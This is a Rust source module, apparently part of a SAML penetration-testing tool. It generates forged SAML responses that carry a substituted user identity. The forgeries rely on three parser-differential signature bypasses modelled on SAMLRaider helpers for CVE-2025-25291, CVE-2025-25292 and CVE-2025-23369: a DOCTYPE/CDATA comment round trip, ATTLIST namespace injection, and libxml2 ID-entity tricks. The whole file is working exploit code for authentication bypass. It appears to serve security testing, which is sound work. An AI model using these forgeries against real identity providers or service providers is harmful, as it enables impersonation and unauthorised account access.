//! Parser differentials that need a DTD: the DOCTYPE round trip (one parser reads a forgery,
//! another the signed original), ATTLIST namespace injection (a DTD default puts a relocated
//! signature back into the XML Signature namespace), and libxml2's ID and entity quirk. Each
//! follows the SAMLRaider helper of the same CVE; nothing is re-signed.

use roxmltree::{Document, Node};

use super::{
    TamperContext, content_end, copy, declare_namespace, forged_identity, id_edit, qualified_name,
    signature::empty_digests, signature_of, signed_assertion, signed_assertion_and_signature,
    signed_name, splice, with_doctype,
};
use crate::response::PipelineError;
use crate::xml::{NS_DS, NS_SAML, NS_SAMLP, escape_attr};

fn plan_error(message: String) -> PipelineError {
    PipelineError::Plan(message)
}

/// The first child of `node` with the tag `(ns, name)`, or a plan error naming the tampering.
fn required_child<'a, 'input>(
    node: Node<'a, 'input>,
    ns: &str,
    name: &str,
    kind: &str,
) -> Result<Node<'a, 'input>, PipelineError> {
    node.children()
        .find(|n| n.has_tag_name((ns, name)))
        .ok_or_else(|| {
            plan_error(format!(
                "tamper `{kind}`: the {} has no {name}",
                node.tag_name().name()
            ))
        })
}

/// [`crate::plan::Tamper::DoctypeRoundTrip`] (SAMLRaider `CVE_2025_25291`).
pub(super) fn doctype_round_trip(
    doc: &Document<'_>,
    xml: &str,
    name_id: &str,
) -> Result<String, PipelineError> {
    const KIND: &str = "doctype-round-trip";
    let root = doc.root_element();
    let original = signed_name(doc, KIND)?;
    let forged = copy(xml, root, forged_identity(root, &original, name_id, KIND)?);
    let end = content_end(xml, root);
    let end_tag = &xml[end..root.range().end];
    let signed = &xml[root.range().start..end];
    if signed.contains("]]>") {
        return Err(plan_error(format!(
            "tamper `{KIND}`: the signed response contains `]]>`, which would end the CDATA section"
        )));
    }
    let forged = &forged[..forged.len() - end_tag.len()];
    Ok(format!(
        "{}<!DOCTYPE response SYSTEM 'x\"><!--'>\n{forged}<![CDATA[-->\n{signed}<!--]]>-->\n{end_tag}",
        &xml[..root.range().start]
    ))
}

/// [`crate::plan::Tamper::AttlistNamespace`] (SAMLRaider `CVE_2025_25292`).
pub(super) fn attlist_namespace(
    doc: &Document<'_>,
    xml: &str,
    name_id: &str,
    ctx: &TamperContext<'_>,
) -> Result<String, PipelineError> {
    const KIND: &str = "attlist-namespace";
    let root = doc.root_element();
    let assertion = signed_assertion(doc)?;
    let original = signed_name(doc, KIND)?;
    let status = required_child(root, NS_SAMLP, "Status", KIND)?;
    let root_signature = signature_of(root);
    let assertion_signature = signature_of(assertion);
    let source = assertion_signature.or(root_signature).ok_or_else(|| {
        plan_error(format!(
            "tamper `{KIND}` needs a signature; use a signing layout"
        ))
    })?;

    let mut edits = forged_identity(assertion, &original, name_id, KIND)?;
    // The rebuilt signature in the assertion: the original with the digest of "".
    let rebuilt = copy(xml, source, empty_digests(xml, source, ctx));
    match assertion_signature {
        Some(signature) => edits.push((signature.range(), rebuilt)),
        None => {
            let at = required_child(assertion, NS_SAML, "Issuer", KIND)?
                .range()
                .end;
            edits.push((at..at, rebuilt));
        }
    }
    if let Some(signature) = root_signature {
        edits.push((signature.range(), String::new()));
    }
    // libxml2's canonicalization refuses this namespace URI.
    edits.push(declare_namespace(
        xml,
        assertion,
        "example",
        "http://example.com\u{80}",
    ));
    // The original signature's content under an unprefixed `Signature` in no namespace, in a
    // StatusDetail at the end of Status; its children keep their prefix, declared on the root.
    let at = content_end(xml, status);
    edits.push((
        at..at,
        format!(
            "<samlp:StatusDetail xmlns:samlp=\"{NS_SAMLP}\"><Signature>{}</Signature></samlp:StatusDetail>",
            &xml[crate::dsig::inner_range(xml, source)]
        ),
    ));
    if let Some((prefix, _)) = qualified_name(xml, source).split_once(':')
        && root.lookup_namespace_uri(Some(prefix)) != Some(NS_DS)
    {
        edits.push(declare_namespace(xml, root, prefix, NS_DS));
    }
    // With only the Response signed, its Reference must name the assertion.
    if assertion_signature.is_none() {
        let referenced = source
            .descendants()
            .find(|n| n.has_tag_name((NS_DS, "Reference")))
            .and_then(|r| r.attribute("URI"))
            .and_then(|uri| uri.strip_prefix('#'))
            .ok_or_else(|| {
                plan_error(format!(
                    "tamper `{KIND}`: the signature has no `#ID` reference"
                ))
            })?;
        edits.push(id_edit(assertion, referenced)?);
        edits.push(id_edit(root, &format!("{referenced}ffff"))?);
    }
    Ok(with_doctype(
        &splice(xml, edits),
        "<!DOCTYPE Response [<!ATTLIST Signature xmlns CDATA #FIXED \"http://www.w3.org/2000/09/xmldsig#\" xmlns CDATA \"block\">]>",
    ))
}

/// [`crate::plan::Tamper::Libxml2IdEntities`] (SAMLRaider `CVE_2025_23369`).
pub(super) fn libxml2_id_entities(
    doc: &Document<'_>,
    xml: &str,
    name_id: &str,
) -> Result<String, PipelineError> {
    const KIND: &str = "libxml2-id-entities";
    let root = doc.root_element();
    let (assertion, signature) = signed_assertion_and_signature(doc, KIND)?;
    let original = signed_name(doc, KIND)?;
    let issuer = required_child(root, NS_SAML, "Issuer", KIND)?;
    fn id_attr<'a, 'input>(
        node: Node<'a, 'input>,
    ) -> Result<roxmltree::Attribute<'a, 'input>, PipelineError> {
        node.attribute_node("ID")
            .ok_or_else(|| plan_error(format!("tamper `{KIND}`: an element has no ID")))
    }
    let id = id_attr(assertion)?.value();

    // The copy of the assertion's signature, with a ds:Object holding the signed assertion
    // (its signature included) whose ID starts with an entity reference.
    let object_copy = copy(
        xml,
        assertion,
        vec![(
            id_attr(assertion)?.range_value(),
            format!("&BypassIDUniqueness;{}", escape_attr(id)),
        )],
    );
    let at = content_end(xml, signature);
    let clone = copy(
        xml,
        signature,
        vec![(
            at..at,
            format!("<Object xmlns=\"{NS_DS}\">{object_copy}</Object>"),
        )],
    );

    let mut edits = forged_identity(assertion, &original, name_id, KIND)?;
    edits.push((signature.range(), String::new()));
    edits.push(id_edit(assertion, &format!("{id}ffff"))?);
    edits.push((id_attr(root)?.range_value(), "&idViaEntity;".to_owned()));
    // The Response's own signature goes; the copy takes its place right after the Issuer.
    let at = issuer.range().end;
    match signature_of(root) {
        Some(old) if old.range().start == at => edits.push((old.range(), clone)),
        old => {
            edits.extend(old.map(|s| (s.range(), String::new())));
            edits.push((at..at, clone));
        }
    }
    Ok(with_doctype(
        &splice(xml, edits),
        &format!(
            "<!DOCTYPE response [\n<!ENTITY idViaEntity \"{}\">\n<!ENTITY BypassIDUniqueness \"&#x50;\">\n]>",
            escape_attr(id)
        ),
    ))
}
